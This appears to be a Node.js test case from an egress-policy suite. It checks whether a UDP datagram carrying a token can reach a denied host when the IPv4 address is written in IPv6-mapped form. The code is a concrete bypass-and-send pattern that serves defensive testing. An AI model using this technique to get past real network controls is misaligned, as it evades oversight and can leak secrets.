// dgram: an IPv4 address as IPv6
// Sends a datagram to ::ffff:203.0.113.81.
// policy: denied-address
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
const dgram = require('dgram');

module.exports = async (at) => at.called((done) => dgram.createSocket('udp6').send(at.token, at.PORT, `::ffff:${at.FOE}`, done));
